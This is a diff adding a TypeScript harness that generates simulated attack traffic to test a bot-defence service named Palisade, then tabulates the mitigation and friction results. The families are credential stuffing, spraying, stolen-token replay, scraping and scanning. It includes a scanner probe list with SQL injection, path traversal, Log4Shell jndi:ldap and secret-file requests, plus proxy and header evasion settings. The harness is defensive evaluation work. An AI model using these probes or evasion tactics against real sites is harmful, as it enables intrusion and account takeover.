+    for (const account of targets) {
+      if (t >= HOUR) return;
+      const visitor = new Visitor(random, out, "spray", pool[n++ % pool.length]!, client, t);
+      visitor.login(account.username, password, { target: true, ...stolenIf(loginAnswer(shop, byName, account.username, password), account.username) });
+      t += gap(random, MINUTE / knobs.rate);
+    }
+  }
+};
+
+/**
+ * Refresh-token replay: an infostealer took app users' refresh tokens (and, in the "jar"
+ * variant, the device cookie beside them); the thief refreshes from elsewhere while the victim
+ * may still be using the app.
+ */
+const tokenReplay: AttackPlan = (random, _shop, out, { returning }, knobs) => {
+  const victims = returning.filter((person) => person.refreshToken).slice(0, knobs.per ?? 10);
+  const pool = proxyPool(random, knobs.addresses);
+  for (const [v, victim] of victims.entries()) {
+    const client = knobs.realism === "chrome" ? victim.client : toolClient(random, knobs.realism);
+    const visitor = new Visitor(random, out, "token-replay", pool[v % pool.length]!, client, int(random, 0, 10 * MINUTE));
+    while (visitor.t < HOUR) {
+      if (knobs.variant === "jar") visitor.jar.set("did", victim.deviceId);
+      if (knobs.addresses > victims.length) visitor.ip = pick(random, pool);
+      refresh(visitor, victim, { target: true, status: 200, stolen: victim.account.username });
+      visitor.wait(MINUTE / knobs.rate * victims.length - int(random, 0, 20_000));
+    }
+  }
+};
+
+/** Distributed catalogue scraping through a proxy pool: data only, no pictures. */
+const scraping: AttackPlan = (random, shop, out, _population, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const ids = knobs.variant === "sequential" ? Array.from({ length: shop.lastId - shop.firstId + 1 }, (_, i) => shop.firstId + i) : [...shop.products].sort(() => random() - 0.5);
+  const visitors = new Map<string, Visitor>();
+  let t = int(random, 0, 2_000);
+  for (const id of ids) {
+    if (t >= HOUR) break;
+    const ip = pick(random, pool);
+    let visitor = visitors.get(ip);
+    if (!visitor) {
+      visitor = new Visitor(random, out, "scraping", ip, toolClient(random, knobs.realism), t);
+      visitors.set(ip, visitor);
+      if (knobs.realism === "headless") visitor.page("/");
+    }
+    visitor.t = Math.max(visitor.t, t);
+    visitor.send("xhr", "GET", `/api/v1/products/${id}`, { target: true, status: shop.exists.has(id) ? 200 : 404, referer: knobs.realism === "headless" || knobs.realism === "chrome" ? `https://shop.example/p/${id}` : undefined });
+    t += gap(random, MINUTE / knobs.rate);
+  }
+};
+
+const SCAN_PATHS = [
+  "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/adminer.php",
+  "/server-status", "/actuator/env", "/actuator/health", "/backup.zip", "/backup.sql", "/db.sql", "/config.json", "/.aws/credentials",
+  "/.DS_Store", "/admin/", "/administrator/", "/api/swagger.json", "/v2/api-docs", "/graphql", "/console", "/debug/vars",
+  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/solr/admin/info/system", "/.well-known/security.txt",
+  "/api/v1/products/1%27%20OR%20%271%27%3D%271", "/api/v1/search?q=%27%20union%20select%20null--", "/static/../../etc/passwd",
+  "/api/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "/login.action", "/index.php?s=/index/think/app/invokefunction", "/.htaccess",
+  "/web.config", "/telescope/requests", "/_profiler/", "/storage/logs/laravel.log", "/api/v1/users", "/api/v1/admin/users", "/.svn/entries",
+  "/config.yml", "/credentials.json", "/site.tar.gz", "/old/", "/test.php", "/info.php", "/elmah.axd", "/jmx-console/",
+];
+
+/** Vulnerability scanning: a template scanner's probe list, from one address or spread over many. */
+const scan: AttackPlan = (random, _shop, out, _population, knobs) => {
+  const pool = proxyPool(random, knobs.addresses);
+  const clients = pool.map(() => (knobs.realism === "chrome" ? chromium(random) : ({ engine: "curl", userAgent: pick(random, ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000131)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]), language: "" } as Client)));
+  let t = int(random, 0, 2_000);
+  for (let n = 0; t < HOUR; n++) {
+    const a = n % pool.length;
+    const visitor = new Visitor(random, out, "scan", pool[a]!, clients[a]!, t);
+    visitor.send("navigate", "GET", SCAN_PATHS[n % SCAN_PATHS.length]!, { target: true, status: 404 });
+    t += gap(random, MINUTE / knobs.rate);
+  }
+};
+
+const PLANS: Record<string, AttackPlan> = { stuffing, headless, "low-and-slow": lowAndSlow, spray, "token-replay": tokenReplay, scraping, scan };
+
+/** The knob points: each family from its easiest to its most careful form. */
+const POINTS: Point[] = [
+  { family: "stuffing", name: "curl", knobs: { rate: 20, addresses: 2000, realism: "curl" }, describe: "20/min, 2000 proxies (~1 try each), curl" },
+  { family: "stuffing", name: "chrome", knobs: { rate: 20, addresses: 400, realism: "chrome" }, describe: "20/min, 400 proxies (3 tries each), faithful Chrome headers, no cookies" },
+  { family: "stuffing", name: "chrome-slow", knobs: { rate: 3, addresses: 1000, realism: "chrome" }, describe: "3/min, 1000 proxies, faithful Chrome headers" },
+  { family: "headless", name: "default-ua", knobs: { rate: 30, addresses: 500, realism: "headless", per: 20 }, describe: "30/min, 20 logins per browser, HeadlessChrome UA" },
+  { family: "headless", name: "stealth", knobs: { rate: 20, addresses: 500, realism: "chrome", per: 5 }, describe: "20/min, 5 logins per browser, Chrome UA" },
+  { family: "headless", name: "stealth-browses", knobs: { rate: 6, addresses: 1000, realism: "chrome", per: 1, variant: "browses" }, describe: "6/min, 1 login per browser, views a product first" },
+  { family: "low-and-slow", name: "chrome", knobs: { rate: 1, addresses: 30, realism: "chrome" }, describe: "1/min from 30 addresses (2/h each), Chrome headers" },
+  { family: "low-and-slow", name: "page-first", knobs: { rate: 3, addresses: 300, realism: "chrome", variant: "page-first" }, describe: "3/min from 300 addresses, loads /login first (cookies)" },
+  { family: "spray", name: "one-address", knobs: { rate: 10, addresses: 1, realism: "python" }, describe: "10/min from 1 address, python" },
+  { family: "spray", name: "proxies", knobs: { rate: 40, addresses: 2000, realism: "chrome" }, describe: "40/min from 2000 proxies, Chrome headers" },
+  { family: "token-replay", name: "curl-rotating", knobs: { rate: 10, addresses: 200, realism: "curl", per: 10 }, describe: "10 stolen tokens, 10 refreshes/min, rotating proxies, curl, no device cookie" },
+  { family: "token-replay", name: "jar", knobs: { rate: 2, addresses: 10, realism: "chrome", per: 10, variant: "jar" }, describe: "10 stolen tokens + device cookie, app's headers, one address each, 5-min cadence" },
+  { family: "token-replay", name: "jar-slow", knobs: { rate: 1, addresses: 20, realism: "chrome", per: 20, variant: "jar" }, describe: "20 stolen tokens + device cookie, app's headers, every 20 min" },
+  { family: "scraping", name: "sequential", knobs: { rate: 60, addresses: 100, realism: "python", variant: "sequential" }, describe: "60/min over 100 proxies, python, ids in order (gaps 404)" },
+  { family: "scraping", name: "chrome", knobs: { rate: 120, addresses: 500, realism: "chrome" }, describe: "120/min over 500 proxies, Chrome headers, sitemap ids shuffled" },
+  { family: "scraping", name: "headless", knobs: { rate: 100, addresses: 300, realism: "headless" }, describe: "100/min over 300 proxies, HeadlessChrome with cookies, shuffled" },
+  { family: "scan", name: "one-address", knobs: { rate: 30, addresses: 1, realism: "curl" }, describe: "30/min from 1 address, scanner UA" },
+  { family: "scan", name: "proxies", knobs: { rate: 20, addresses: 400, realism: "chrome" }, describe: "20/min over 400 proxies, Chrome UA" },
+];
+
+// ---------------------------------------------------------------- playing it against Palisade
+
+interface Score {
+  family: string;
+  point: string;
+  seed: number;
+  attack: number;
+  attackMitigated: number;
+  targets: number;
+  targetsMitigated: number;
+  takeovers: number;
+  legit: number;
+  legitFriction: number;
+  legitActions: Record<string, number>;
+  errors: number;
+}
+
+const root = fileURLToPath(new URL("../", import.meta.url));
+
+async function play(point: Point | undefined, seed: number, legitSessions: number, options: { decisions?: string[]; planOnly?: boolean }): Promise<Score | undefined> {
+  const decisions = options.planOnly ? undefined : options.decisions;
+  const random = seeded(seed * 7919 + (point ? POINTS.indexOf(point) + 1 : 0) * 104729);
+  const shop = openShop(seeded(seed));
+  const out: Planned[] = [];
+  // The same people on every point of a seed: the legitimate hour differs only by the attack beside it.
+  const population = legitimate(seeded(seed + 1), shop, out, legitSessions);
+  if (point) PLANS[point.family]!(random, shop, out, population, point.knobs);
+  out.sort((a, b) => a.t - b.t);
+  if (options.planOnly) {
+    // The traffic and its labels, for reading or for another judge; nothing is played.
+    const counts: Record<string, number> = {};
+    for (const request of out) counts[request.label] = (counts[request.label] ?? 0) + 1;
+    process.stderr.write(`${point?.family ?? "none"}/${point?.name ?? "legit"} seed ${seed}: ${JSON.stringify(counts)}\n`);
+    options.decisions?.push(...out.map((request) => JSON.stringify(request)));
+    return undefined;
+  }
+
+  const settings = resolveSettings(
+    { grpcPort: 0, adminPort: 0, challengePort: 0, grpcHost: "127.0.0.1", adminHost: "127.0.0.1", challengeHost: "127.0.0.1", pseudonymKey: "independent-traffic-0123456789abcdef0123", trustEventTime: true, warmUpDecisions: 0 },
+    {},
+    { policy: `${root}examples/policy.yaml` },
+  );
+  const app = await startApp(settings, { logger: createLogger({ level: "silent" }), policyReloadOffThread: false, ruleBudgetMs: 10_000 });
+  const authz = envoyAuthzClient(`127.0.0.1:${app.grpcPort}`);
+  const logs = envoyAccessLogClient(`127.0.0.1:${app.grpcPort}`);
+  const score: Score = { family: point?.family ?? "none", point: point?.name ?? "legit only", seed, attack: 0, attackMitigated: 0, targets: 0, targetsMitigated: 0, takeovers: 0, legit: 0, legitFriction: 0, legitActions: {}, errors: 0 };
+  const takenOver = new Set<string>();
+  const base = Math.floor((Date.now() - 2 * HOUR) / MINUTE) * MINUTE;
+  let pending: LoggedRequest[] = [];
+  try {
+    for (const [n, request] of out.entries()) {
+      const timeMs = base + Math.round(request.t);
+      if (pending.length && (timeMs - pending[0]!.timeMs! >= 1_000 || pending.length >= 200)) {
+        await logs.send(pending);
+        pending = [];
+      }
+      const requestId = `${seed}-${n}`;
+      const check = checkRequest({ method: request.method, path: request.path, ip: request.ip, headers: { ":authority": "shop.example", "x-request-id": requestId, "x-forwarded-proto": "https", ...request.headers }, body: request.body, timeMs, requestId }) as { attributes: { request: { http: { protocol: string } } } };
+      // Browsers and apps speak HTTP/2 to the edge; scripts mostly HTTP/1.1.
+      if (request.headers["sec-fetch-mode"] || request.headers["x-app-version"]) check.attributes.request.http.protocol = "HTTP/2";
+      let action = "allow";
+      let response;
+      try {
+        response = await authz.check({ rawRequest: check });
+        action = String(metadata(response).action ?? (response.denied_response ? "deny" : "allow"));
+      } catch {
+        score.errors++; // Envoy's failure_mode_allow lets it through
+      }
+      const denied = action !== "allow" && action !== "step_up";
+      // Under step-up the application asks for the second factor: people pass it, attackers do not.
+      const status = denied ? deniedStatus(action) : action === "step_up" && request.rightPassword && request.label !== "legit" && request.label !== "history" ? 401 : request.status;
+      pending.push({ requestId, method: request.method, path: request.path.split("?")[0]!, ip: request.ip, status, timeMs, responseHeaders: denied ? {} : request.responseHeaders, authzMetadata: response?.dynamic_metadata, deniedByAuthz: denied });
+      if (request.label === "history") continue;
+      const mitigated = action !== "allow";
+      if (request.label === "legit") {
+        score.legit++;
+        if (mitigated) {
+          score.legitFriction++;
+          score.legitActions[action] = (score.legitActions[action] ?? 0) + 1;
+          decisions?.push(JSON.stringify({ label: "legit", action, t: request.t, ip: request.ip, method: request.method, path: request.path, ua: request.headers["user-agent"], reasons: metadata(response!).reasons, rule: metadata(response!).rule }));
+        }
+        continue;
+      }
+      score.attack++;
+      if (mitigated) score.attackMitigated++;
+      if (request.target) {
+        score.targets++;
+        if (mitigated) score.targetsMitigated++;
+      }
+      if (request.stolen && action === "allow") takenOver.add(request.stolen);
+      if (decisions && request.target) decisions.push(JSON.stringify({ label: request.label, action, t: request.t, ip: request.ip, path: request.path, stolen: request.stolen, reasons: response ? metadata(response).reasons : undefined, rule: response ? metadata(response).rule : undefined }));
+    }
+    if (pending.length) await logs.send(pending);
+  } finally {
+    authz.close();
+    logs.close();
+    await app.stop();
+  }
+  score.takeovers = takenOver.size;
+  return score;
+}
+
+function deniedStatus(action: string): number {
+  return action === "challenge" ? 401 : action === "throttle" ? 429 : 403;
+}
+
+const percent = (part: number, whole: number) => (whole ? `${((100 * part) / whole).toFixed(1)}%` : "–");
+
+async function main(): Promise<void> {
+  const { values } = parseArgs({ options: { seeds: { type: "string", default: "1,2" }, only: { type: "string" }, sessions: { type: "string", default: "120" }, json: { type: "string" }, decisions: { type: "string" }, plan: { type: "boolean", default: false } } });
+  const seeds = values.seeds.split(",").map(Number);
+  const families = values.only?.split(",");
+  const points = POINTS.filter((point) => !families || families.includes(point.family) || families.includes(`${point.family}/${point.name}`));
+  const decisions: string[] | undefined = values.decisions ? [] : undefined;
+  const scores: Score[] = [];
+  const options = { decisions, planOnly: values.plan };
+  for (const seed of seeds) {
+    for (const point of families ? points : [undefined, ...points]) {
+      const score = await play(point, seed, Number(values.sessions), options);
+      if (score) scores.push(score);
+      process.stderr.write(`${point?.family ?? "none"}/${point?.name ?? "legit only"} seed ${seed} done\n`);
+    }
+  }
+  if (values.decisions && decisions) writeFileSync(values.decisions, `${decisions.join("\n")}\n`);
+  if (values.plan) return;
+  const lines = [
+    "| family | point | knobs | seed | attack requests | mitigated | targets mitigated | takeovers | legit requests | legit friction |",
+    "|---|---|---|---|---|---|---|---|---|---|",
+    ...scores.map((s) => {
+      const knobs = POINTS.find((p) => p.family === s.family && p.name === s.point)?.describe ?? "no attack";
+      return `| ${s.family} | ${s.point} | ${knobs} | ${s.seed} | ${s.attack} | ${percent(s.attackMitigated, s.attack)} | ${percent(s.targetsMitigated, s.targets)} of ${s.targets} | ${s.takeovers} | ${s.legit} | ${percent(s.legitFriction, s.legit)}${s.legitFriction ? ` (${Object.entries(s.legitActions).map(([a, c]) => `${a} ${c}`).join(", ")})` : ""} |`;
+    }),
+  ];
+  process.stdout.write(`${lines.join("\n")}\n`);
+  const errors = scores.reduce((sum, score) => sum + score.errors, 0);
+  if (errors) process.stderr.write(`${errors} Checks failed and were let through, as Envoy's failure_mode_allow would\n`);
+  if (values.json) writeFileSync(values.json, `${JSON.stringify(scores, null, 2)}\n`);
+}
+
+await main();
